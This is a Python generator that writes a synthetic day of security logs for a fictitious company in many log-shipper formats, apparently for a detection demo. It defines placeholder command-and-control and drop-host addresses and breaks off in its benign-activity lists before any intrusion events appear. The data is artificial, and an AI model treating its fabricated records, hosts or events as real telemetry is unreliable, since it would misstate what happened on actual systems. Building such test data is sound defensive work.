#!/usr/bin/env python3
"""Writes the demo's event stream: one working day of a small made-up company, with one intrusion.

Usage: gen_demo_events.py [--events N] [--seed S] [--benign-only] > attack.ndjson

The output is NDJSON in event-time order and depends on the arguments only: no clock, no machine
state. Each host and service keeps the record form of its own shipper (flat Sysmon, EVTX as JSON,
Winlogbeat, Sysmon for Linux, auditd, CloudTrail, Okta, Zeek, Kubernetes audit). All names are made
up; domains are below example.*, public addresses are from the documentation ranges.
"""
import argparse
import base64
import datetime
import hashlib
import json
import random
import sys

DAY = datetime.datetime(2026, 11, 17, tzinfo=datetime.timezone.utc)
DAY_START_S = 7 * 3600
DAY_END_S = 19 * 3600
DEFAULT_SEED = 20261117

NETBIOS = "LARKFIELD"
DNS_SUFFIX = "larkfield.example.com"
C2_NAME = "cdn-sync.example.net"
C2_IP = "203.0.113.66"
DROP_IP = "198.51.100.77"
TUNNEL = "relay.example.org"
ACCOUNT = "111122223333"

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
SYSTEM = "System"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
PROVIDERS = {
    SYSMON: "Microsoft-Windows-Sysmon",
    SECURITY: "Microsoft-Windows-Security-Auditing",
    SYSTEM: "Service Control Manager",
    POWERSHELL: "Microsoft-Windows-PowerShell",
    DEFENDER: "Microsoft-Windows-Windows Defender",
}


class Host:
    """A machine of the company and the form in which its log shipper writes records."""

    def __init__(self, name, ip, form, user):
        self.name = name
        self.ip = ip
        self.form = form
        self.user = user
        self.fqdn = "%s.%s" % (name, DNS_SUFFIX)


WINDOWS = [
    Host("WKS-ANNA", "10.20.1.21", "flat", "anna.berg"),
    Host("WKS-BEN", "10.20.1.22", "evtx", "ben.cole"),
    Host("WKS-CARA", "10.20.1.23", "winlogbeat", "cara.diaz"),
    Host("DC-01", "10.20.0.10", "evtx", "svc-directory"),
    Host("FS-01", "10.20.0.11", "winlogbeat", "svc-files"),
]
ANNA, BEN, CARA, DC, FS = WINDOWS
WEB = Host("web-01", "10.20.2.31", "sysmon-linux", "www-data")
APP = Host("app-01", "10.20.2.32", "auditd", "deploy")

SYS32 = "C:\\Windows\\System32\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
EXPLORER = "C:\\Windows\\explorer.exe"
SERVICES = SYS32 + "services.exe"
SVCHOST = SYS32 + "svchost.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
TEAMS = "C:\\Program Files\\WindowsApps\\MSTeams\\ms-teams.exe"
DEFENDER_EXE = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MsMpEng.exe"
BACKUP = "C:\\Program Files\\Hayloft Backup\\agent.exe"
WINDOWS_PRODUCT = "Microsoft\u00ae Windows\u00ae Operating System"
MICROSOFT = "Microsoft Corporation"

# Image file name -> description, product, company. Anything else carries no version resource.
VERSION_INFO = {
    "powershell.exe": ("Windows PowerShell", WINDOWS_PRODUCT, MICROSOFT),
    "cmd.exe": ("Windows Command Processor", WINDOWS_PRODUCT, MICROSOFT),
    "svchost.exe": ("Host Process for Windows Services", WINDOWS_PRODUCT, MICROSOFT),
    "wscript.exe": ("Microsoft Windows Based Script Host", WINDOWS_PRODUCT, MICROSOFT),
    "rundll32.exe": ("Windows host process (Rundll32)", WINDOWS_PRODUCT, MICROSOFT),
    "winword.exe": ("Microsoft Word", "Microsoft Office", MICROSOFT),
    "excel.exe": ("Microsoft Excel", "Microsoft Office", MICROSOFT),
    "outlook.exe": ("Microsoft Outlook", "Microsoft Office", MICROSOFT),
    "chrome.exe": ("Google Chrome", "Google Chrome", "Google LLC"),
    "ms-teams.exe": ("Microsoft Teams", "Microsoft Teams", MICROSOFT),
    "msmpeng.exe": ("Antimalware Service Executable", WINDOWS_PRODUCT, MICROSOFT),
    "agent.exe": ("Hayloft Backup Agent", "Hayloft Backup", "Hayloft Software"),
}
SYSTEM_TOOLS = ("whoami.exe", "nltest.exe", "net.exe", "net1.exe", "ipconfig.exe", "systeminfo.exe",
                "schtasks.exe", "reg.exe", "vssadmin.exe", "wevtutil.exe", "certutil.exe",
                "taskhostw.exe", "conhost.exe", "backgroundTaskHost.exe", "SearchProtocolHost.exe",
                "dllhost.exe", "RuntimeBroker.exe", "gpupdate.exe", "tasklist.exe", "notepad.exe",
                "explorer.exe", "services.exe", "WmiPrvSE.exe", "quser.exe", "msiexec.exe")
VERSION_INFO.update({n.lower(): (n.split(".")[0], WINDOWS_PRODUCT, MICROSOFT)
                     for n in SYSTEM_TOOLS})
ORIGINAL_NAMES = {"powershell.exe": "PowerShell.EXE", "cmd.exe": "Cmd.Exe",
                  "rundll32.exe": "RUNDLL32.EXE", "winword.exe": "WinWord.exe"}


# --- record forms ---------------------------------------------------------------------------------

def iso(ms, digits=3):
    """RFC 3339 in UTC with `digits` decimals of a second."""
    t = DAY + datetime.timedelta(milliseconds=ms)
    text = t.strftime("%Y-%m-%dT%H:%M:%S")
    return text + (".%03d" % (ms % 1000) + "0" * (digits - 3) if digits else "") + "Z"


def utc_time(ms):
    """The spelling of Sysmon's UtcTime."""
    return iso(ms)[:-1].replace("T", " ")


def provider_of(channel, event_id):
    if event_id in (104, 1102):
        return "Microsoft-Windows-Eventlog"
    return PROVIDERS[channel]


def windows_flat(computer, channel, event_id, ms, data, record_id):
    """Header and data fields side by side, as flattening forwarders send them."""
    record = {"Channel": channel, "EventID": event_id,
              "Provider_Name": provider_of(channel, event_id), "Computer": computer,
              "EventRecordID": record_id, "Level": 4,
              "TimeCreated": iso(ms, 7)}
    record.update(data)
    return record


def windows_evtx(computer, channel, event_id, ms, data, record_id):
    """The Windows event XML as JSON."""
    body = "UserData" if event_id in (104, 1102) else "EventData"
    inner = {"LogFileCleared": data} if body == "UserData" else data
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {"Provider": {"#attributes": {"Name": provider_of(channel, event_id)}},
                   "EventID": event_id, "Version": 5, "Level": 4, "Task": event_id, "Opcode": 0,
                   "Keywords": "0x8000000000000000",
                   "TimeCreated": {"#attributes": {"SystemTime": iso(ms, 7)}},
                   "EventRecordID": record_id,
                   "Execution": {"#attributes": {"ProcessID": 3120, "ThreadID": 4408}},
                   "Channel": channel, "Computer": computer,
                   "Security": {"#attributes": {"UserID": "S-1-5-18"}}},
        body: inner}}


def windows_winlogbeat(computer, channel, event_id, ms, data, record_id):
    """Winlogbeat's nesting; it sends all data fields as text."""
    text = {k: v if isinstance(v, str) else str(v) for k, v in data.items()}
    body = "user_data" if event_id in (104, 1102) else "event_data"
    return {"@timestamp": iso(ms), "ecs": {"version": "8.0.0"},
            "agent": {"type": "winlogbeat", "version": "8.11.1"},
            "host": {"name": computer.split(".")[0].lower(), "os": {"type": "windows"}},
            "event": {"code": str(event_id), "kind": "event",
                      "provider": provider_of(channel, event_id)},
            "winlog": {"channel": channel, "event_id": str(event_id),
                       "provider_name": provider_of(channel, event_id), "computer_name": computer,
                       "record_id": record_id, body: text}}


def linux_sysmon(computer, event_id, ms, data, record_id):
    record = {"Channel": "Linux-Sysmon/Operational", "EventID": event_id,
              "Provider_Name": "Linux-Sysmon", "Computer": computer, "EventRecordID": record_id,
              "Level": 4}
    record.update(data)
    return record


def auditd(computer, record_type, ms, data, record_id):
    record = {"timestamp": iso(ms), "node": computer, "type": record_type,
              "msg": "audit(%d.%03d:%d)" % (DAY.timestamp() + ms // 1000, ms % 1000, record_id)}
    record.update(data)
    return record


FORMS = {"flat": windows_flat, "evtx": windows_evtx, "winlogbeat": windows_winlogbeat}


# --- the world: collects records, numbers them in time order --------------------------------------

class World:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.records = []
        self.parents = {}
        self.pid = 4000

    def add(self, ms, render):
        """`render(record_id)` makes the JSON object once the order is known."""
        self.records.append((ms, len(self.records), render))

    def write(self, out):
        self.records.sort(key=lambda r: (r[0], r[1]))
        for number, (_, _, render) in enumerate(self.records, 1):
            json.dump(render(number), out, separators=(",", ":"), ensure_ascii=False)
            out.write("\n")

    def windows(self, host, channel, event_id, ms, data):
        form = FORMS[host.form]
        self.add(ms, lambda n: form(host.fqdn, channel, event_id, ms, data, 88000 + n))

    def next_pid(self):
        self.pid += 4 * self.rng.randrange(1, 40)
        if self.pid > 30000:
            self.pid = 4000 + self.pid % 400
        return self.pid

    def guid(self, host, ms):
        digest = hashlib.sha256(host.name.encode()).hexdigest()
        return "{%s-%04x-%04x-%04x-000000001200}" % (digest[:8], ms >> 16 & 0xffff, ms & 0xffff,
                                                     self.rng.randrange(256))

    def parent(self, host, image):
        """A long-lived process: always the same id and GUID."""
        key = (host.name, image)
        if key not in self.parents:
            self.parents[key] = (self.next_pid(), self.guid(host, DAY_START_S * 1000))
        return self.parents[key]

    # Sysmon events. `who` is an account name without domain, or SYSTEM.

    def process(self, host, ms, image, command_line, parent_image, parent_command_line, who=None,
                integrity="Medium", directory=None, parent_who=None, original=None):
        user = account(who or host.user)
        pid, guid = self.next_pid(), self.guid(host, ms)
        ppid, pguid = self.parent(host, parent_image)
        self.parents[(host.name, image)] = (pid, guid)
        name = base(image)
        description, product, company = VERSION_INFO.get(name.lower(), ("-", "-", "-"))
        has_info = name.lower() in VERSION_INFO
        self.windows(host, SYSMON, 1, ms, {
            "RuleName": "-", "UtcTime": utc_time(ms), "ProcessGuid": guid, "ProcessId": pid,
            "Image": image, "FileVersion": "10.0.19041.3996" if has_info else "-",
            "Description": description, "Product": product, "Company": company,
            "OriginalFileName": original or (
                ORIGINAL_NAMES.get(name.lower(), name) if has_info else "-"),
            "CommandLine": command_line, "CurrentDirectory": directory or SYS32, "User": user,
            "LogonGuid": "{%s-0000-0000-e703-000000000000}" % guid[1:9], "LogonId": logon_id(user),
            "TerminalSessionId": 0 if "SYSTEM" in user else 1, "IntegrityLevel": integrity,
            "Hashes": hashes(image if has_info else image + command_line),
            "ParentProcessGuid": pguid, "ParentProcessId": ppid, "ParentImage": parent_image,
            "ParentCommandLine": parent_command_line,
            "ParentUser": account(parent_who) if parent_who else user})
        return pid, guid

    def sysmon(self, host, event_id, ms, image, fields, who=None):
        """Any other Sysmon event that a process causes."""
        pid, guid = self.parent(host, image)
        data = {"RuleName": "-"}
        if event_id in (12, 13, 14, 17, 18, 19, 20):
            data["EventType"] = fields.pop("EventType", "SetValue")
        data.update({"UtcTime": utc_time(ms), "ProcessGuid": guid, "ProcessId": pid,
                     "Image": image})
        data.update(fields)
        data["User"] = account(who or host.user)
        self.windows(host, SYSMON, event_id, ms, data)

    def file_created(self, host, ms, image, path, who=None):
        self.sysmon(host, 11, ms, image, {"TargetFilename": path, "CreationUtcTime": utc_time(ms)},
                    who)

    def registry_set(self, host, ms, image, key, details, who=None):
        self.sysmon(host, 13, ms, image, {"TargetObject": key, "Details": details}, who)

    def connection(self, host, ms, image, ip, port, name="-", who=None):
        self.sysmon(host, 3, ms, image, {
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": host.ip,
            "SourceHostname": host.fqdn, "SourcePort": self.rng.randrange(49152, 65535),
            "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": ip,
            "DestinationHostname": name, "DestinationPort": port,
            "DestinationPortName": {80: "http", 443: "https", 445: "microsoft-ds"}.get(port, "-"),
        }, who)

    def dns_query(self, host, ms, image, name, results):
        self.sysmon(host, 22, ms, image, {"QueryName": name, "QueryStatus": "0",
                                          "QueryResults": results})

    def image_load(self, host, ms, image, dll, signed=True, who=None):
        name = base(dll)
        self.sysmon(host, 7, ms, image, {
            "ImageLoaded": dll, "FileVersion": "10.0.19041.1" if signed else "-",
            "Description": name.split(".")[0] if signed else "-",
            "Product": WINDOWS_PRODUCT if signed else "-", "Company": MICROSOFT if signed else "-",
            "OriginalFileName": name if signed else "-", "Hashes": hashes(dll),
            "Signed": "true" if signed else "false",
            "Signature": "Microsoft Windows" if signed else "-",
            "SignatureStatus": "Valid" if signed else "Unavailable"}, who)

    def process_access(self, host, ms, source, target, access, trace, who="SYSTEM"):
        spid, sguid = self.parent(host, source)
        tpid, tguid = self.parent(host, target)
        self.windows(host, SYSMON, 10, ms, {
            "RuleName": "-", "UtcTime": utc_time(ms), "SourceProcessGUID": sguid,
            "SourceProcessId": spid, "SourceThreadId": spid + 8, "SourceImage": source,
            "TargetProcessGUID": tguid, "TargetProcessId": tpid, "TargetImage": target,
            "GrantedAccess": access, "CallTrace": trace, "SourceUser": account(who),
            "TargetUser": account("SYSTEM")})

    def logon(self, host, ms, user, logon_type, ip, package="Kerberos", sid_tail=1104):
        self.windows(host, SECURITY, 4624, ms, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
            "SubjectLogonId": "0x0", "TargetUserSid": sid(sid_tail), "TargetUserName": user,
            "TargetDomainName": NETBIOS,
            "TargetLogonId": "0x%x" % self.rng.randrange(1 << 20, 1 << 24), "LogonType": logon_type,
            "LogonProcessName": "NtLmSsp " if package == "NTLM" else package,
            "AuthenticationPackageName": package, "WorkstationName": "-",
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TransmittedServices": "-",
            "LmPackageName": "NTLM V2" if package == "NTLM" else "-",
            "KeyLength": 128 if package == "NTLM" else 0, "ProcessId": "0x0", "ProcessName": "-",
            "IpAddress": ip, "IpPort": str(self.rng.randrange(49152, 65535)),
            "ImpersonationLevel": "%%1833", "ElevatedToken": "%%1842"})

    def script_block(self, host, ms, text, path=""):
        self.windows(host, POWERSHELL, 4104, ms, {
            "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
            "ScriptBlockId": "%08x-0000-4000-8000-%012x" % (ms, len(text)), "Path": path})

    # Linux.

    def linux_process(self, host, ms, image, command_line, parent_image, parent_command_line,
                      user="root", directory="/"):
        pid, guid = self.next_pid(), self.guid(host, ms)
        ppid, pguid = self.parent(host, parent_image)
        self.parents[(host.name, image)] = (pid, guid)
        data = {"RuleName": "-", "UtcTime": utc_time(ms), "ProcessGuid": guid, "ProcessId": pid,
                "Image": image, "FileVersion": "-", "Description": "-", "Product": "-",
                "Company": "-", "OriginalFileName": "-", "CommandLine": command_line,
                "CurrentDirectory": directory, "User": user,
                "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
                "LogonId": 0 if user == "root" else 33, "TerminalSessionId": 4294967295,
                "IntegrityLevel": "no level", "Hashes": "-", "ParentProcessGuid": pguid,
                "ParentProcessId": ppid, "ParentImage": parent_image,
                "ParentCommandLine": parent_command_line, "ParentUser": user}
        self.add(ms, lambda n: linux_sysmon(host.name, 1, ms, data, 500 + n))

    def linux_file(self, host, ms, image, path, user="root"):
        pid, guid = self.parent(host, image)
        data = {"RuleName": "-", "UtcTime": utc_time(ms), "ProcessGuid": guid, "ProcessId": pid,
                "Image": image, "TargetFilename": path, "CreationUtcTime": utc_time(ms),
                "User": user}
        self.add(ms, lambda n: linux_sysmon(host.name, 11, ms, data, 500 + n))

    def linux_connection(self, host, ms, image, ip, port, user="root"):
        pid, guid = self.parent(host, image)
        data = {"RuleName": "-", "UtcTime": utc_time(ms), "ProcessGuid": guid, "ProcessId": pid,
                "Image": image, "User": user, "Protocol": "tcp", "Initiated": "true",
                "SourceIsIpv6": "false", "SourceIp": host.ip, "SourceHostname": host.name,
                "SourcePort": self.rng.randrange(32768, 61000), "SourcePortName": "-",
                "DestinationIsIpv6": "false", "DestinationIp": ip, "DestinationHostname": "-",
                "DestinationPort": port, "DestinationPortName": "-"}
        self.add(ms, lambda n: linux_sysmon(host.name, 3, ms, data, 500 + n))

    def audit_execve(self, ms, argv, exe, uid=1001):
        pid = self.next_pid()
        self.add(ms, lambda n: auditd(APP.name, "SYSCALL", ms, {
            "arch": "c000003e", "syscall": "execve", "success": "yes", "exit": 0,
            "a0": "55d0c8a2f3c0", "a1": "55d0c8a2f420", "a2": "55d0c8a2f4a0", "a3": "8", "items": 2,
            "ppid": pid - 4, "pid": pid, "auid": 1001, "uid": uid, "gid": uid, "euid": uid,
            "suid": uid, "fsuid": uid, "egid": uid, "sgid": uid, "fsgid": uid, "tty": "pts0",
            "ses": 12, "comm": exe.split("/")[-1], "exe": exe, "key": "exec"}, n))
        data = {"argc": len(argv)}
        data.update({"a%d" % i: a for i, a in enumerate(argv)})
        self.add(ms, lambda n: auditd(APP.name, "EXECVE", ms, data, n - 1))

    def audit_path(self, ms, name, nametype="NORMAL"):
        self.add(ms, lambda n: auditd(APP.name, "PATH", ms, {
            "item": 0, "name": name, "inode": 262144 + len(name), "dev": "fd:01",
            "mode": "0100644", "ouid": 0, "ogid": 0, "rdev": "00:00", "nametype": nametype,
            "cap_fp": "0", "cap_fi": "0", "cap_fe": 0, "cap_fver": "0"}, n))

    # Cloud and network.

    def cloudtrail(self, ms, source, name, user, ip, request=None, response=None, read_only=False,
                   **more):
        agent = more.pop("agent", "aws-cli/2.15.30 Python/3.11.8 Linux/6.1 exe/x86_64")
        key = "AKIA" + hashlib.sha256(user.encode()).hexdigest()[:16].upper()
        record = {
            "eventVersion": "1.09",
            "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + key[4:],
                             "arn": "arn:aws:iam::%s:user/%s" % (ACCOUNT, user),
                             "accountId": ACCOUNT, "accessKeyId": key, "userName": user},
            "eventTime": iso(ms, 0), "eventSource": source + ".amazonaws.com", "eventName": name,
            "awsRegion": "eu-central-1", "sourceIPAddress": ip, "userAgent": agent,
            "requestParameters": request, "responseElements": response,
            "requestID": uuid_of("req", ms), "eventID": uuid_of(name, ms), "readOnly": read_only,
            "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": ACCOUNT,
            "eventCategory": "Management",
            "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256"}}
        record.update(more)
        self.add(ms, lambda n: record)

    def okta(self, ms, event_type, message, actor, ip, target=None, result="SUCCESS",
             debug=None, severity="INFO"):
        record = {
            "uuid": uuid_of(event_type, ms), "published": iso(ms), "eventType": event_type,
            "version": "0", "severity": severity, "displayMessage": message,
            "legacyEventType": None,
            "actor": {"id": "00u" + actor[:6], "type": "User", "alternateId": mail(actor),
                      "displayName": actor},
            "client": {"ipAddress": ip, "device": "Computer", "zone": "null",
                       "userAgent": {"browser": "CHROME", "os": "Windows 10",
                                     "rawUserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"},
                       "geographicalContext": {"country": "Germany"}},
            "outcome": {"result": result, "reason": None},
            "target": [{"id": "00u" + target[:6], "type": "User", "alternateId": mail(target),
                        "displayName": target}] if target else None,
            "authenticationContext": {"authenticationStep": 0,
                                      "externalSessionId": "102" + actor[:4]},
            "debugContext": {"debugData": debug or {"requestUri": "/api/v1/authn"}},
            "securityContext": {"isProxy": False}}
        self.add(ms, lambda n: record)

    def kubernetes(self, ms, verb, resource, user, ip, namespace="shop", name="", subresource=None,
                   code=200, body=None, group=""):
        ref = {"resource": resource, "namespace": namespace, "name": name, "apiVersion": "v1"}
        if group:
            ref["apiGroup"] = group
        if subresource:
            ref["subresource"] = subresource
        record = {
            "kind": "Event", "apiVersion": "audit.k8s.io/v1",
            "level": "RequestResponse" if body else "Metadata", "auditID": uuid_of(resource, ms),
            "stage": "ResponseComplete",
            "requestURI": "/api/v1/namespaces/%s/%s/%s" % (namespace, resource, name), "verb": verb,
            "user": {"username": user, "groups": ["system:unauthenticated"]
                     if user == "system:anonymous" else ["system:authenticated"]},
            "sourceIPs": [ip], "userAgent": "kubectl/v1.30.2 (linux/amd64)", "objectRef": ref,
            "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": iso(ms, 6), "stageTimestamp": iso(ms + 7, 6),
            "annotations": {"authorization.k8s.io/decision": "allow"}}
        if body:
            record["requestObject"] = body
        self.add(ms, lambda n: record)

    def zeek(self, path, ms, src, dst, dst_port, fields):
        uid = "C" + base64.b32encode(hashlib.sha256(
            ("%s%d%s" % (path, ms, src)).encode()).digest())[:12].decode()
        record = {"_path": path, "ts": iso(ms, 6), "uid": uid, "id.orig_h": src,
                  "id.orig_p": self.rng.randrange(32768, 65535), "id.resp_h": dst,
                  "id.resp_p": dst_port}
        record.update(fields)
        self.add(ms, lambda n: record)

    def zeek_dns(self, ms, src, query, qtype="A", answers=None, rcode="NOERROR"):
        self.zeek("dns", ms, src, DC.ip, 53, {
            "proto": "udp", "trans_id": self.rng.randrange(65536), "query": query, "qclass": 1,
            "qclass_name": "C_INTERNET", "qtype": {"A": 1, "AAAA": 28, "TXT": 16}[qtype],
            "qtype_name": qtype, "rcode": 0 if rcode == "NOERROR" else 3, "rcode_name": rcode,
            "AA": False, "TC": False, "RD": True, "RA": True, "Z": 0, "answers": answers or [],
            "TTLs": [300.0] * len(answers or []), "rejected": False})

    def zeek_http(self, ms, src, dst, host, method, uri, agent, status=200, size=900):
        self.zeek("http", ms, src, dst, 80, {
            "trans_depth": 1, "method": method, "host": host, "uri": uri, "version": "1.1",
            "user_agent": agent, "request_body_len": 0, "response_body_len": size,
            "status_code": status, "status_msg": "OK" if status == 200 else "Not Found",
            "tags": [], "resp_mime_types": ["text/html"]})

    def zeek_conn(self, ms, src, dst, port, sent, received, service="ssl"):
        self.zeek("conn", ms, src, dst, port, {
            "proto": "tcp", "service": service, "duration": round(self.rng.random() * 60, 3),
            "orig_bytes": sent, "resp_bytes": received, "conn_state": "SF", "local_orig": True,
            "local_resp": dst.startswith("10."), "missed_bytes": 0, "history": "ShADadFf",
            "orig_pkts": sent // 1200 + 4, "orig_ip_bytes": sent + 240,
            "resp_pkts": received // 1200 + 4, "resp_ip_bytes": received + 240})


def base(path):
    return path.replace("/", "\\").rsplit("\\", 1)[-1]


def account(who):
    return "NT AUTHORITY\\SYSTEM" if who == "SYSTEM" else NETBIOS + "\\" + who


def logon_id(user):
    return "0x3e7" if "SYSTEM" in user else "0x%x" % (int(hashes(user)[5:11], 16) | 0x10000)


def sid(tail):
    return "S-1-5-21-1004336348-1177238915-682003330-%d" % tail


def mail(user):
    return "%s@%s" % (user, DNS_SUFFIX)


def hashes(text):
    """Stands in for the file hashes: one value per program."""
    return "SHA1=" + hashlib.sha1(text.lower().encode()).hexdigest().upper()


def uuid_of(text, ms):
    h = hashlib.md5(("%s %d" % (text, ms)).encode()).hexdigest()
    return "%s-%s-4%s-8%s-%s" % (h[:8], h[8:12], h[13:16], h[17:20], h[20:])


def at(clock):
    """`09:12:30` or `09:12:30.250` -> milliseconds of the day."""
    hours, minutes, seconds = clock.split(":")
    return (int(hours) * 3600 + int(minutes) * 60) * 1000 + round(float(seconds) * 1000)


# --- an ordinary day ------------------------------------------------------------------------------

SITES = ["www.example.com", "news.example.org", "mail.example.com", "static.example.net",
         "login.example.com", "updates.example.net", "maps.example.org", "wiki.example.com"]
BROWSER_AGENT = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                 "Chrome/130.0.0.0 Safari/537.36")

# image, command line, parent image, parent command line, account (None: the host's user), integrity
OFFICE_WORK = [
    (CHROME, '"%s" --type=renderer --lang=de --renderer-client-id={n}' % CHROME, CHROME,
     '"%s"' % CHROME, None, "Low"),
    (CHROME, '"%s" --type=utility --utility-sub-type=network.mojom.NetworkService' % CHROME, CHROME,
     '"%s"' % CHROME, None, "Medium"),
    (OFFICE + "WINWORD.EXE", '"%sWINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\report-{n}.docx"'
     % OFFICE, EXPLORER, EXPLORER, None, "Medium"),
    (OFFICE + "EXCEL.EXE", '"%sEXCEL.EXE" "\\\\fs-01\\finance\\plan-{n}.xlsx"' % OFFICE, EXPLORER,
     EXPLORER, None, "Medium"),
    (TEAMS, '"%s" --type=gpu-process' % TEAMS, TEAMS, '"%s"' % TEAMS, None, "Medium"),
    (SYS32 + "notepad.exe", '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\{u}\\notes-{n}.txt',
     EXPLORER, EXPLORER, None, "Medium"),
    (SYS32 + "SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\Usg'
     'ThrottleMutex{n}', SVCHOST, SVCHOST + " -k netsvcs -p", "SYSTEM", "System"),
    (SYS32 + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", SVCHOST,
     SVCHOST + " -k DcomLaunch -p", None, "Medium"),
    (SYS32 + "backgroundTaskHost.exe", '"C:\\Windows\\system32\\backgroundTaskHost.exe" '
     "-ServerName:App.AppX{n}.mca", SVCHOST, SVCHOST + " -k DcomLaunch -p", None, "Low"),
    (SVCHOST, SVCHOST + " -k netsvcs -p -s BITS", SERVICES, SERVICES, "SYSTEM", "System"),
    (SVCHOST, SVCHOST + " -k LocalService -p -s fdPHost", SERVICES, SERVICES, "SYSTEM", "System"),
    (SYS32 + "taskhostw.exe", "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}", SVCHOST,
     SVCHOST + " -k netsvcs -p -s Schedule", None, "Medium"),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     SYS32 + "cmd.exe", "cmd.exe /c logon.cmd", None, "Medium"),
    (SYS32 + "cmd.exe", 'cmd.exe /c "\\\\dc-01\\netlogon\\logon.cmd" {n}', EXPLORER, EXPLORER, None,
     "Medium"),
    (SYS32 + "gpupdate.exe", "gpupdate.exe /target:computer", SVCHOST,
     SVCHOST + " -k netsvcs -p -s gpsvc", "SYSTEM", "System"),
    (SYS32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{{AB8902B4-09CA-4BB6-"
     "B78D-A8F59079A8D5}}", SVCHOST, SVCHOST + " -k DcomLaunch -p", None, "Medium"),
    (BACKUP, '"%s" --job nightly --chunk {n}' % BACKUP, SERVICES, SERVICES, "SYSTEM", "System"),
    (PS, 'powershell.exe -NoProfile -File "C:\\Program Files\\Hayloft Backup\\report.ps1" -Id {n}',
     BACKUP, '"%s" --service' % BACKUP, "SYSTEM", "System"),
    (SYS32 + "net.exe", "net use P: \\\\fs-01\\projects /persistent:no", SYS32 + "cmd.exe",
     'cmd.exe /c "\\\\dc-01\\netlogon\\logon.cmd"', None, "Medium"),
    (SYS32 + "ipconfig.exe", "ipconfig /registerdns", SVCHOST, SVCHOST + " -k netsvcs -p", "SYSTEM",
     "System"),
    (SYS32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL timedate.cpl", EXPLORER,
     EXPLORER, None, "Medium"),
]
BENIGN_FILES = [(OFFICE + "WINWORD.EXE", "C:\\Users\\{u}\\Documents\\~$report-{n}.docx"),
                (CHROME, "C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\f_{n}.tmp"),
                (OFFICE + "OUTLOOK.EXE",
                 "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Outlook\\{n}.tmp"),
                (EXPLORER, "C:\\Users\\{u}\\Desktop\\notes-{n}.txt"),
                (BACKUP, "C:\\ProgramData\\Hayloft\\chunk-{n}.dat")]
BENIGN_KEYS = [(EXPLORER, "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
                "RecentDocs\\{n}", "Binary Data"),
               (SVCHOST, "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\{n}",
                "Binary Data"),
               (SYS32 + "msiexec.exe", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
                "HayloftTray", '"C:\\Program Files\\Hayloft Backup\\tray.exe"'),
               (TEAMS, "HKU\\S-1-5-21\\Software\\Microsoft\\Office\\Teams\\Window{n}",
                "DWORD (0x00000001)")]
BENIGN_DLLS = [(CHROME, SYS32 + "dxgi.dll"), (OFFICE + "WINWORD.EXE", SYS32 + "msxml6.dll"),
               (EXPLORER, SYS32 + "shell32.dll"), (SVCHOST, SYS32 + "wuaueng.dll")]
LINUX_WORK = [
    ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/sbin/cron",
     "/usr/sbin/CRON -f", "root"),
    ("/usr/bin/php", "php /var/www/shop/bin/console messenger:consume --limit={n}",
     "/usr/lib/systemd/systemd", "/sbin/init", "www-data"),
    ("/usr/bin/dash", 'sh -c "test -x /usr/sbin/anacron || run-parts /etc/cron.hourly"',
     "/usr/sbin/cron", "/usr/sbin/CRON -f", "root"),
    ("/usr/bin/curl", "curl -fsS http://10.20.2.32:8080/healthz?probe={n}", "/usr/bin/dash",
     "sh /opt/shop/health.sh", "deploy"),
    ("/usr/bin/tar", "tar -czf /backup/shop-{n}.tgz /var/www/shop", "/usr/bin/bash",
     "bash /opt/shop/backup.sh", "root"),
    ("/usr/bin/systemctl", "systemctl status nginx", "/usr/bin/bash", "-bash", "deploy"),
    ("/usr/bin/ls", "ls -la /var/log/nginx", "/usr/bin/bash", "-bash", "deploy"),
]
AUDIT_WORK = [(["ls", "-l", "/srv/app"], "/usr/bin/ls"),
              (["git", "pull", "--ff-only"], "/usr/bin/git"),
              (["systemctl", "restart", "app"], "/usr/bin/systemctl"),
              (["tail", "-n", "50", "/var/log/app.log"], "/usr/bin/tail"),
              (["cat", "/etc/hosts"], "/usr/bin/cat")]
AWS_WORK = [("s3", "GetBucketLocation", {"bucketName": "larkfield-assets"}),
            ("ec2", "DescribeInstances", {"maxResults": 50}), ("sts", "GetCallerIdentity", None),
            ("s3", "ListBuckets", None), ("cloudwatch", "DescribeAlarms", {"maxRecords": 100}),
            ("ecr", "BatchGetImage", {"repositoryName": "shop"}),
